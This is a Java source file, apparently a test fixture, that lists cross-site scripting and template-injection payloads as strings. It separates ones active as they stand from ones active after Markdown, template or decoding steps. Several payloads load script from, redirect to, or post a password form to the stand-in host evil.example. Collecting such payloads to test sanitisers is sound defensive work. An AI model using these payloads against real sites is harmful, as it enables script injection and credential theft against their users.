/* SPDX-License-Identifier: EUPL-1.2 */
package org.luwte.attack;

import java.util.List;
import java.util.stream.Stream;

/** What people type who want a page to run something of theirs. All of it fits into a title. */
public final class Payloads {

    private Payloads() {}

    /** Active when it stands in a page as it is. */
    public static List<String> active() {
        return List.of(
                "<script>alert('lwxss')</script>",
                "<ScRiPt>alert('lwxss')</sCrIpT >",
                "<script src=//evil.example/lwxss.js></script>",
                "<scr<script>ipt>alert('lwxss')</scr</script>ipt>",
                "</textarea><script>alert('lwxss')</script>",
                "</title><script>alert('lwxss')</script>",
                "\"><script>alert('lwxss')</script>",
                "'><script>alert('lwxss')</script>",
                "--><script>alert('lwxss')</script><!--",
                "]]><script>alert('lwxss')</script>",
                "<img src=x onerror=alert('lwxss')>",
                "\"><img src=x onerror=alert('lwxss')>",
                "<img/src='x'/onerror='alert(\"lwxss\")'>",
                "<svg onload=alert('lwxss')>",
                "<svg><script>alert('lwxss')</script></svg>",
                "<svg><a xlink:href=\"javascript:alert('lwxss')\"><text>x</text></a></svg>",
                "<math><mtext><img src onerror=alert('lwxss')></mtext></math>",
                "<iframe src=\"javascript:alert('lwxss')\"></iframe>",
                "<iframe srcdoc=\"<script>alert('lwxss')</script>\"></iframe>",
                "<object data=\"data:text/html,<script>alert('lwxss')</script>\"></object>",
                "<embed src=\"javascript:alert('lwxss')\">",
                "<base href=\"//evil.example/lwxss/\">",
                "<meta http-equiv=refresh content=\"0;url=//evil.example/lwxss\">",
                "<link rel=stylesheet href=//evil.example/lwxss.css>",
                "<style>*{background:url(//evil.example/lwxss)}</style>",
                "<a href=\"javascript:alert('lwxss')\">lwxss</a>",
                "<a href=\"jav&#x09;ascript:alert('lwxss')\">lwxss</a>",
                "<form action=//evil.example/lwxss><input name=password></form>",
                "<button formaction=\"javascript:alert('lwxss')\">lwxss</button>",
                "<details open ontoggle=alert('lwxss')>",
                "<body onpageshow=alert('lwxss')>",
                "\" autofocus onfocus=alert('lwxss') x=\"",
                "' autofocus onfocus=alert('lwxss') x='",
                "<video><source onerror=alert('lwxss')></video>",
                "<p style=\"background:url(//evil.example/lwxss)\">lwxss</p>");
    }

    /** Active only after something turns it into that: Markdown, expressions, templates, decoding. */
    public static List<String> afterTurning() {
        return List.of(
                "[lwxss](javascript:alert('lwxss'))",
                "[lwxss](JaVaScRiPt:alert(1)//lwxss)",
                "[lwxss](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "<javascript:alert('lwxss')>",
                "[lwxss](vbscript:lwxss)",
                "[lwxss](https://example.org/\" onmouseover=\"alert('lwxss'))",
                "![lwxss](x\" onerror=\"alert('lwxss'))",
                "[lwxss]: javascript:alert(1)\n[lwxss]",
                "&lt;script&gt;alert('lwxss')&lt;/script&gt;",
                "#{7*7}lwxss ${7*7}lwxss",
                "#{request.session.invalidate()}lwxss",
                "{{constructor.constructor('alert(1)')()}}lwxss",
                "<%= 7*7 %>lwxss",
                "+ADw-script+AD4-alert('lwxss')+ADw-/script+AD4-",
                "\uFF1Cscript\uFF1Ealert('lwxss')\uFF1C/script\uFF1E");
    }

    public static List<String> all() {
        return Stream.concat(active().stream(), afterTurning().stream()).toList();
    }
}
